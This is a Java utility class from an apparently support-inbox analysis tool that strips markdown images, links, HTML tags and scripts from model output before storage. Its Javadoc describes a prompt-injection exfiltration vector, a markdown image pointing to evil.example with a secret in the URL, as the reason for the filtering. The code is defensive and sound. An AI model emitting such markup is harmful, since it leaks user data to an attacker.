package org.supportinbox.functions.analyze;

import java.util.regex.MatchResult;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Turns a model's text into plain text before it is stored: the last step of {@link InsightParser}.
 * A model that read a hostile customer message may write markup meant for whatever renders the
 * reply next (a mail client, a markdown viewer, a future UI), and some of it acts with no click at
 * all: a markdown image {@code ![x](https://evil.example/?q=secret)} is fetched the moment it is
 * shown, carrying whatever the model put into its URL. So:
 *
 * <ul>
 *   <li>markdown images (inline and by reference) and link reference definitions are removed;
 *   <li>a markdown link becomes its text, followed by its URL in parentheses when that is {@code
 *       http(s)}, so the reader sees where it points (another scheme, e.g. {@code javascript:}, is
 *       dropped);
 *   <li>{@code script} and {@code style} elements are removed with their content, HTML comments and
 *       every other HTML tag without it ({@code <b>yes</b>} becomes {@code yes});
 *   <li>spaces left in runs by a removal become one, and trailing spaces of lines go.
 * </ul>
 *
 * Anything else stays as written: a {@code <} or {@code >} that opens no tag, entities, bare URLs,
 * emphasis marks. The UI shows text, never HTML, whatever this lets through; this is the second
 * layer, for the readers of the stored text that are not the UI.
 */
final class PlainText {

  private static final Pattern SCRIPT_OR_STYLE =
      Pattern.compile(
          "<(script|style)\\b[^>]*>.*?</\\1\\s*>", Pattern.CASE_INSENSITIVE | Pattern.DOTALL);

  private static final Pattern COMMENT = Pattern.compile("<!--.*?(-->|$)", Pattern.DOTALL);

  /**
   * A start, end or self-closing tag: a letter right after {@code <} or {@code </}, then, as HTML
   * parsers read it, white space or {@code /} before any attributes ({@code <img/src=x>} is an
   * image to a browser).
   */
  private static final Pattern TAG =
      Pattern.compile("</?[A-Za-z][A-Za-z0-9:-]*(?:[\\s/][^<>]*)?>", Pattern.DOTALL);

  /** {@code ![alt](url "title")} and {@code ![alt][ref]}; alt may hold one level of brackets. */
  private static final Pattern IMAGE =
      Pattern.compile("!\\[(?:[^\\[\\]]|\\[[^\\[\\]]*\\])*\\]\\s*(?:\\([^)]*\\)|\\[[^\\]]*\\])");

  /** {@code [text](url "title")}; the URL may hold one level of parentheses. */
  private static final Pattern LINK =
      Pattern.compile(
          "\\[([^\\[\\]]*)\\]\\(\\s*<?((?:[^()\\s<>]|\\([^()\\s]*\\))*)>?(?:\\s+[\"'][^)]*)?\\)");

  /** {@code [ref]: url "title"} on a line of its own. */
  private static final Pattern REFERENCE_DEFINITION =
      Pattern.compile("(?m)^[ \\t]{0,3}\\[[^\\]]+\\]:[ \\t]*\\S+.*$\\n?");

  private static final Pattern HTTP_URL = Pattern.compile("(?i)https?://\\S+");

  private static final Pattern SPACE_RUNS = Pattern.compile("[ \\t]{2,}");

  private static final Pattern TRAILING_SPACES = Pattern.compile("(?m)[ \\t]+$");

  private PlainText() {}

  /** {@code text} without the markup above; {@code text} itself when it has none. */
  static String of(String text) {
    if (text.indexOf('<') < 0 && text.indexOf('[') < 0) {
      return text;
    }
    String out = SCRIPT_OR_STYLE.matcher(text).replaceAll("");
    out = COMMENT.matcher(out).replaceAll("");
    out = IMAGE.matcher(out).replaceAll("");
    out = REFERENCE_DEFINITION.matcher(out).replaceAll("");
    out = LINK.matcher(out).replaceAll(PlainText::link);
    out = TAG.matcher(out).replaceAll("");
    if (out.equals(text)) {
      return text;
    }
    out = SPACE_RUNS.matcher(out).replaceAll(" ");
    return TRAILING_SPACES.matcher(out).replaceAll("");
  }

  private static String link(MatchResult link) {
    String text = link.group(1).strip();
    String url = link.group(2);
    if (!HTTP_URL.matcher(url).matches()) {
      return Matcher.quoteReplacement(text);
    }
    return Matcher.quoteReplacement(
        text.isEmpty() || text.equals(url) ? url : text + " (" + url + ")");
  }
}
